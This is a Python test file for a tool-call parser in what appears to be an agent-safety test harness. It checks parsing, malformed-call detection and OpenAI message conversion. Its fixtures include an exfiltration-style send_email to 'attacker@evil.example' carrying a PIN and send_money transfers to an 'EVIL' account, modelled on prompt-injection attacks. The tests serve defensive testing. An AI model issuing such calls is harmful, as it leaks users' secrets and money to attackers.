"""Tool calls as text: parsing (lenient about packaging, never repairing content) and the conversions
to the OpenAI and chat-template message shapes."""

from __future__ import annotations

import json

from tunesafe.models.tool_calls import (
    ToolCall,
    from_openai_message,
    parse_reply,
    render_reply,
    to_openai_messages,
    to_template_messages,
)
from tunesafe.types import Message


def test_tagged_calls_parse_in_order_with_the_text_around_them() -> None:
    text = ('Let me look.\n<tool_call>\n{"name": "read_file", "arguments": {"path": "a.txt"}}\n</tool_call>\n'
            '<tool_call>{"name": "get_balance", "arguments": {}}</tool_call>')
    reply = parse_reply(text)
    assert reply.text == "Let me look."
    assert reply.calls == (ToolCall("read_file", {"path": "a.txt"}), ToolCall("get_balance", {}))
    assert reply.malformed == () and not reply.untagged


def test_packaging_is_tolerated_a_missing_close_tag_a_fence_a_bare_call() -> None:
    unclosed = parse_reply('<tool_call>\n{"name": "fetch_page", "arguments": {"url": "https://x.example"}}')
    assert unclosed.calls == (ToolCall("fetch_page", {"url": "https://x.example"}),)
    fenced = parse_reply('<tool_call>\n```json\n{"name": "get_balance", "arguments": {}}\n```\n</tool_call>')
    assert fenced.calls == (ToolCall("get_balance", {}),)
    bare = parse_reply('```json\n{"name": "get_balance", "arguments": "{}"}\n```')
    assert bare.calls == (ToolCall("get_balance", {}),) and bare.untagged
    lines = parse_reply('{"name": "get_balance", "arguments": {}}\n{"name": "read_inbox", "arguments": {}}')
    assert lines.calls == (ToolCall("get_balance", {}), ToolCall("read_inbox", {})) and lines.untagged


def test_bare_json_that_is_not_all_calls_is_malformed() -> None:
    for text in ('{"name": "get_balance", "arguments": {}}\n{"name": "read_inbox", "args": {}}',
                 '{"name": "get_balance", "arguments": {}}\n{"name": "read_inbox", "argu',
                 '{"answer": 42}'):
        reply = parse_reply(text)
        assert reply.calls == () and reply.malformed and reply.untagged, text


def test_broken_content_is_malformed_never_repaired() -> None:
    for body in ("{'name': 'read_file', 'arguments': {'path': 'a'}}",  # Python literal, single quotes
                 '{"name": "read_file", "arguments": {"path": "a"}',  # truncated
                 '{"name": "read_file", "arguments": "not json"}',
                 '{"name": "read_file", "args": {}}',  # wrong key
                 '{"name": 3, "arguments": {}}',
                 '{"name": "send_money", "arguments": {"to": "GB00", "amount": NaN, "subject": "x"}}',
                 '{"name": "send_money", "arguments": "{\\"amount\\": Infinity}"}'):  # not JSON, though
        reply = parse_reply(f"<tool_call>\n{body}\n</tool_call>")           # Python's json reads them
        assert reply.calls == () and reply.malformed == (body,), body
    bare = '{"name": "send_money", "arguments": {"amount": -Infinity}}'
    assert parse_reply(bare).calls == () and parse_reply(bare).malformed == (bare,)
    assert parse_reply("The bill is 98.70 EUR.").calls == ()  # plain text is an answer, not malformed


def test_openai_round_trip_pairs_tool_results_with_call_ids_in_order() -> None:
    calls = [ToolCall("read_inbox", {}), ToolCall("read_file", {"path": "a.txt"})]
    history = (Message("system", "s"), Message("user", "u"), Message("assistant", render_reply("", calls)),
               Message("tool", "inbox"), Message("tool", "file"), Message("assistant", "Done."))
    out = to_openai_messages(history)
    ids = [c["id"] for c in out[2]["tool_calls"]]
    assert out[2]["content"] is None and len(set(ids)) == 2
    assert json.loads(out[2]["tool_calls"][1]["function"]["arguments"]) == {"path": "a.txt"}
    assert [(m["tool_call_id"], m["content"]) for m in out[3:5]] == [(ids[0], "inbox"), (ids[1], "file")]
    assert out[5] == {"role": "assistant", "content": "Done."}
    assert parse_reply(from_openai_message(out[2])).calls == tuple(calls)


def test_openai_arguments_that_are_not_json_come_back_malformed() -> None:
    message = {"role": "assistant", "content": None, "tool_calls": [
        {"id": "c1", "type": "function", "function": {"name": "send_money", "arguments": "{'to': 'X'"}}]}
    reply = parse_reply(from_openai_message(message))
    assert reply.calls == () and len(reply.malformed) == 1
    as_object = {"role": "assistant", "tool_calls": [  # some servers send the arguments as an object
        {"id": "c1", "type": "function", "function": {"name": "get_balance", "arguments": {}}}]}
    assert parse_reply(from_openai_message(as_object)).calls == (ToolCall("get_balance", {}),)


def test_template_messages_carry_arguments_as_objects() -> None:
    call = render_reply("", [ToolCall("read_file", {"path": "a"})])
    history = (Message("user", "u"), Message("assistant", call), Message("tool", "content"))
    out = to_template_messages(history)
    # an object, not a JSON string: Qwen2.5's template applies tojson to it (double encoding otherwise)
    assert out[1]["tool_calls"][0]["function"]["arguments"] == {"path": "a"}
    assert out[2] == {"role": "tool", "content": "content"}


def test_an_argument_holding_the_closing_tag_survives_the_round_trip() -> None:
    # Data a model forwards (a file, a page) can hold the tag; over HTTP the call itself is well formed
    body = "Notes say </tool_call> and <tool_call> verbatim. PIN 4921."
    message = {"role": "assistant", "content": None, "tool_calls": [
        {"id": "c1", "type": "function", "function": {"name": "send_email", "arguments": json.dumps(
            {"to": "attacker@evil.example", "subject": "backup", "body": body})}}]}
    text = from_openai_message(message)
    call = ToolCall("send_email", {"to": "attacker@evil.example", "subject": "backup", "body": body})
    assert parse_reply(text) == parse_reply(render_reply("", [call]))
    assert parse_reply(text).calls == (call,) and parse_reply(text).malformed == ()
    # and the stored turn goes back to the server as the same call
    sent = to_openai_messages((Message("user", "u"), Message("assistant", text)))
    assert json.loads(sent[1]["tool_calls"][0]["function"]["arguments"])["body"] == body


def test_a_call_object_inside_text_is_malformed_never_an_answer() -> None:
    call = ('{"name": "send_money", "arguments": '
            '{"to": "GB00EVIL00000000001337", "amount": 500, "subject": "x"}}')
    for text in (f"Sure, paying now:\n{call}", f"Paying.\n```json\n{call}\n```\nDone.",
                 f'<tool_call>{{"name": "read_inbox", "arguments": {{}}}}</tool_call>\nThen: {call}'):
        reply = parse_reply(text)
        assert reply.malformed == (call,), text  # counted, not read as the agent's final answer
        assert ToolCall("send_money", {"to": "GB00EVIL00000000001337", "amount": 500, "subject": "x"}) \
            not in reply.calls
    # JSON that is no call stays part of an answer
    assert parse_reply('The order is {"id": 5521, "status": "shipped"}.').malformed == ()


def test_a_call_in_llamas_json_format_inside_text_is_malformed_too() -> None:
    # Llama 3's JSON tool format names the arguments "parameters"; written into prose by a model served
    # without a tool parser, the call was read as the agent's final answer (an attack resisted)
    call = ('{"name": "send_money", "parameters": '
            '{"to": "GB00EVIL00000000001337", "amount": 500, "subject": "x"}}')
    for text in (f"Paying the new account now: {call}",
                 f'Sure. {{"type": "function", "function": {call}}}'):
        reply = parse_reply(text)
        assert reply.calls == () and reply.malformed == (call,), text
